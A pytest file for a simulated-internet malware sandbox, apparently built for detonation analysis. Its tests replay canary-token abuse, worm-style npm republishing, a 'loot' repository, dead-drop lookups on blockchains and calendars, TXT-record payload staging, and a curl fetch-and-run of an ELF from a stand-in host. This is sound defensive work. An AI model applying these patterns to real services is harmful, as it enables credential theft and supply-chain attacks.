"""The scripts of the simulated internet: what services say to who has a token, and where dead drops lead."""

import base64
import json
import re
import sys
from collections.abc import Mapping
from pathlib import Path

import msgspec
import pytest
import yaml

from biopsy.sandbox.internet import leads, native, parcel, presented, reply, tag, variables, zone
from biopsy.sandbox.raw import Canary

from .conftest import Net

PLANTED = (Canary("npm-token", "npm_" + "a1B2" * 9), Canary("github-token", "ghp_" + "c3D4" * 9))
NPM, GITHUB = (canary.secret for canary in PLANTED)
RULES = reply.load()


class World:
    """The answers of one run, without a network."""

    def __init__(self) -> None:
        self.tags, self.leads = tag.Tags("seed"), leads.Leads("seed")
        made = variables.of(self.leads, PLANTED, "203.0.113.9")
        self.replies = reply.Replies(RULES, self.tags, made, presented.Wallet(PLANTED))
        self.asked: dict[str, int] = {}

    def ask(
        self,
        method: str,
        url: str,
        body: object = None,
        headers: Mapping[str, str] | None = None,
        token: str = "",
    ) -> reply.Made:
        host, _, path = url.partition("/")
        turn = self.asked.get(url, 0)
        self.asked[url] = turn + 1
        sent = body if isinstance(body, bytes) else json.dumps(body).encode() if body is not None else b""
        more = dict(headers or {}) | ({"authorization": f"Bearer {token}"} if token else {})
        return self.replies.to(reply.Asked(method, host, f"/{path}", more, sent, turn))


def found(made: reply.Made) -> object:
    return json.loads(made.body)


@pytest.mark.parametrize(
    ("url", "planted"),
    [("registry.example/-/whoami", NPM), ("api.github.com/user", GITHUB), ("gitlab.com/api/v4/user", GITHUB)],
)
def test_a_planted_token_is_good_until_it_is_revoked(url: str, planted: str) -> None:
    world = World()
    assert world.ask("GET", url).status == 401
    statuses = [world.ask("GET", url, token=planted).status for _ in range(6)]
    assert statuses == [200, 200, 200, 200, 401, 401]


def test_what_is_revoked_publishes_nothing_any_more() -> None:
    world, package = World(), {"name": "next", "versions": {"1.0.1": {}}}
    assert world.ask("PUT", "registry.example/next", package).status == 401
    assert found(world.ask("PUT", "registry.example/next", package, token=NPM))["success"] is True
    for _ in range(4):
        world.ask("GET", "registry.example/-/whoami", token=NPM)
    assert world.ask("PUT", "registry.example/next", package, token=NPM).status == 401
    assert world.ask("GET", "api.github.com/user", token=GITHUB).status == 200


@pytest.mark.parametrize("value", ["Bearer undefined", "token null", "Bearer ", "Basic Og=="])
def test_a_token_that_was_not_found_is_none(value: str) -> None:
    assert World().ask("GET", "api.github.com/user", headers={"authorization": value}).status == 401


def test_a_token_of_the_attacker_s_own_is_taken_and_is_somebody_else_s() -> None:
    world = World()
    own = found(world.ask("GET", "api.github.com/user", token="ghp_theirs"))
    assert own["login"] != found(world.ask("GET", "api.github.com/user", token=GITHUB))["login"]
    assert world.ask("PUT", "api.github.com/repos/x/y/contents/a.txt", {}, token="ghp_theirs").status == 201


def test_a_worm_finds_what_it_may_publish_and_publishes_it() -> None:
    world = World()
    who = found(world.ask("GET", "registry.example/-/whoami", token=NPM))["username"]
    listed = found(world.ask("GET", f"registry.example/-/v1/search?text=maintainer:{who}&size=20", token=NPM))
    name = listed["objects"][0]["package"]["name"]
    packument = found(world.ask("GET", f"registry.example/{name}", token=NPM))
    latest = packument["versions"][packument["dist-tags"]["latest"]]
    archive = world.ask("GET", latest["dist"]["tarball"].removeprefix("https://"), token=NPM)
    assert archive.body.startswith(b"\x1f\x8b")
    body = {"name": name, "versions": {"2.3.2": latest}, "_attachments": {"x.tgz": {"data": ""}}}
    assert world.ask("PUT", f"registry.example/{name}", body, token=NPM).status == 200


def test_the_account_s_own_packages_are_answered_even_on_the_host_of_a_registry() -> None:
    world = World()
    for path, own in (
        ("/mira-lindqvist-toolkit", True),
        ("/left-pad", False),
        ("/-/v1/search?text=x", False),
    ):
        assert world.replies.always(reply.Asked("GET", "registry.example", path)) is own


def test_an_upload_to_an_index_of_python_packages_needs_a_token() -> None:
    world, form = World(), {"content-type": "multipart/form-data; boundary=x"}
    basic = base64.b64encode(f"__token__:{NPM}".encode()).decode()
    assert world.ask("POST", "upload.example/legacy/", b"--x--", form).status == 403
    assert (
        world.ask(
            "POST", "upload.example/legacy/", b"--x--", form | {"authorization": f"Basic {basic}"}
        ).status
        == 200
    )


def test_a_repository_is_made_filled_and_its_secrets_are_listed() -> None:
    world = World()
    made = world.ask("POST", "api.github.com/user/repos", {"name": "loot"}, token=GITHUB)
    assert (made.status, found(made)["full_name"]) == (201, "mira-dev/loot")
    for url in ("contents/.github/workflows/x.yml", "contents/results.b64", "actions/secrets/A"):
        assert world.ask("PUT", f"api.github.com/repos/mira-dev/loot/{url}", {}, token=GITHUB).status == 201
    listed = found(world.ask("GET", "api.github.com/repos/mira-dev/loot/actions/secrets", token=GITHUB))
    assert listed["total_count"] == len(listed["secrets"])


@pytest.mark.parametrize(
    ("method", "url", "body", "reads"),
    [
        ("GET", "bit.ly/3xYz", None, lambda made: dict(made.add)["location"]),
        ("GET", "calendar.app.google/abc", None, lambda made: dict(made.add)["location"]),
        ("GET", "t.me/s/notes", None, lambda made: re.search(rb'description" content="([^"]+)', made.body)[1].decode()),
        ("GET", "calendar.google.com/calendar/share?slt=x", None,
         lambda made: base64.b64decode(re.search(rb'data-base-title="([^"]+)', made.body)[1]).decode()),
        ("GET", "cal.example/team.ics", None, lambda made: re.search(rb"URL:(\S+)", made.body)[1].decode()),
        ("GET", "gateway.example/ipns/k51", None, lambda made: made.body.decode().strip()),
        ("POST", "rpc.example/", {"jsonrpc": "2.0", "id": 7, "method": "eth_call"},
         lambda made: bytes.fromhex(found(made)["result"][130:]).rstrip(b"\0").decode()),
        ("POST", "rpc.example/", {"jsonrpc": "2.0", "id": 7, "method": "getSignaturesForAddress"},
         lambda made: base64.b64decode(json.loads(found(made)["result"][0]["memo"][5:])["link"]).decode()),
        ("GET", "api.trongrid.io/v1/accounts/T1/transactions?limit=1", None,
         lambda made: bytes.fromhex(found(made)["data"][0]["raw_data"]["data"]).decode()),
        ("GET", "api.github.com/search/commits?q=x", None,
         lambda made: base64.b64decode(found(made)["items"][0]["commit"]["message"]).decode()),
    ],
    ids=["short link", "calendar link", "channel", "event", "ics", "ipns", "ethereum", "solana", "tron", "commits"],
)  # fmt: skip
def test_a_dead_drop_leads_to_a_second_host(method: str, url: str, body: object, reads) -> None:
    world = World()
    lead = reads(world.ask(method, url, body))
    if url.startswith("calendar.app"):
        assert lead.startswith("https://calendar.google.com/")
        return
    host = lead.removeprefix("https://").partition("/")[0]
    assert world.leads.giver(host) == url.partition("/")[0]


def test_a_host_that_nobody_named_was_led_to_by_nobody() -> None:
    world = leads.Leads("seed")
    assert world.giver(leads.Leads("seed").host("bit.ly")) == ""
    assert world.giver(world.host("bit.ly").upper() + ".") == "bit.ly"


@pytest.mark.parametrize("turn", [0, 1])
@pytest.mark.parametrize(("prefix", "start"), [("", 0), ("c", 1), ("part-", 10)])
def test_pieces_of_text_records_make_the_code(prefix: str, start: int, turn: int) -> None:
    texts = zone.Texts(zone.load(), tag.Tags("seed"), leads.Leads("seed"))
    for _ in range(turn + 1):
        pieces, number = [], start
        while piece := texts.to(f"{prefix}{number}.stage.example")[0]:
            pieces.append(piece)
            number += 1
    code = "".join(pieces)
    assert len(pieces) > 1
    assert (code if turn else base64.b64decode(code).decode()).startswith("0 //1 or")
    assert int(texts.to("count.stage.example")[0]) >= len(pieces)


def test_a_text_record_is_code_first_and_packed_the_next_time() -> None:
    texts = zone.Texts(zone.load(), tag.Tags("seed"), leads.Leads("seed"))
    first, again = (texts.to("stage.example") for _ in range(2))
    assert base64.b64decode(again[0]).decode() == tag.code(again[1])
    assert first[0] == tag.code(first[1])


def test_git_may_push(net: Net, tmp_path: Path) -> None:
    script = f"""set -e; export HOME={tmp_path} GIT_TERMINAL_PROMPT=0; cd {tmp_path}; git init -q r; cd r
    echo x > x; git add x; git -c user.name=a -c user.email=a@mail.example commit -qm x
    git push -q http://x:ghp_theirs@forge.example/a/b.git HEAD:refs/heads/main"""
    done = net.run("sh", "-c", script)
    assert done.returncode == 0, done.stderr
    assert b"PACK" in net.heard(lambda s: s.name == "forge.example" and s.summary.startswith("POST")).body


@pytest.mark.parametrize(
    "how",
    ["chmod +x p; ./p", f"{sys.executable} -c 'import ctypes; ctypes.CDLL(\"./p\")'"],
    ids=["started", "loaded"],
)
def test_a_program_that_is_started_or_loaded_is_seen(net: Net, tmp_path: Path, how: str) -> None:
    host = f"{'a' if 'chmod' in how else 'b'}.programs.example"
    done = net.run("sh", "-c", f"cd {tmp_path}; curl -s http://{host}/addon.elf -o p; {how}")
    assert done.returncode == 0, done.stderr
    given = net.heard(lambda s: s.token and s.name == host)
    assert net.heard(lambda s: s.ran == given.token)


def test_where_a_dead_drop_led_is_recorded(net: Net) -> None:
    net.run("sh", "-c", f"curl -sL --cacert {net.folder}/ca.pem http://bit.ly/abc")
    assert net.heard(lambda s: s.told == "bit.ly" and s.protocol == "https").name.endswith(leads.ZONE)


def test_the_name_stands_nowhere_in_the_program() -> None:
    made = native.elf("0123456789abcdef")
    assert not {b"0123456", b"edge-cache", b"example"} & {
        made[at : at + n] for n in (7, 10) for at in range(len(made))
    }


@pytest.mark.parametrize("path", sorted(reply.FOLDER.glob("*.yml")), ids=lambda path: path.stem)
def test_every_maker_and_variable_that_a_script_names_exists(path: Path) -> None:
    text = path.read_text("utf-8")
    known = {"code", *variables.of(leads.Leads("s"), PLANTED, "203.0.113.9")}
    assert set(re.findall(r"\$\{([a-z]+)", text)) <= known
    assert set(re.findall(r"^ +make: (\w+)", text, re.MULTILINE)) <= set(parcel.MAKERS)


def test_the_script_of_the_documents_does_what_they_say() -> None:
    page = (Path(__file__).parents[2] / "docs" / "internet.md").read_text("utf-8")
    data = yaml.safe_load(page.partition("```yaml\n")[2].partition("```")[0])
    world = World()
    world.replies._rules = msgspec.convert(data, reply.Service).rules
    assert world.ask("GET", "api.notes.example/v1/notes/6").status == 401
    notes = [found(world.ask("GET", "api.notes.example/v1/notes/7", token=NPM))["text"] for _ in range(2)]
    assert base64.b64decode(notes[0]).startswith(b"0 //1 or")
    assert world.leads.giver(notes[1].split("/")[2]) == "api.notes.example"
    assert [world.ask("GET", "api.notes.example/v1/me", token=NPM).status for _ in range(5)] == [200] * 4 + [
        401
    ]
    assert world.ask("GET", "api.notes.example/v2", token=GITHUB).status == 404


@pytest.mark.parametrize(
    ("url", "status", "words"),
    [
        ("api.github.com/repos/a/b/nothing", 404, "Not Found"),
        ("api.github.com/user", 401, "Requires authentication"),
        ("gitlab.com/api/v4/user", 401, "401 Unauthorized"),
        ("discord.com/api/v10/users/@me", 401, "401: Unauthorized"),
        ("api.telegram.org/nothing", 404, "Not Found"),
        ("huggingface.co/api/whoami-v2", 401, "Invalid credentials"),
        ("registry.example/-/whoami", 401, "logged in"),
        ("hooks.slack.com/nothing", 404, "no_service"),
    ],
)
def test_a_service_refuses_in_its_own_words(url: str, status: int, words: str) -> None:
    made = World().ask("GET", url)
    assert (made.status, words in made.body.decode()) == (status, True)
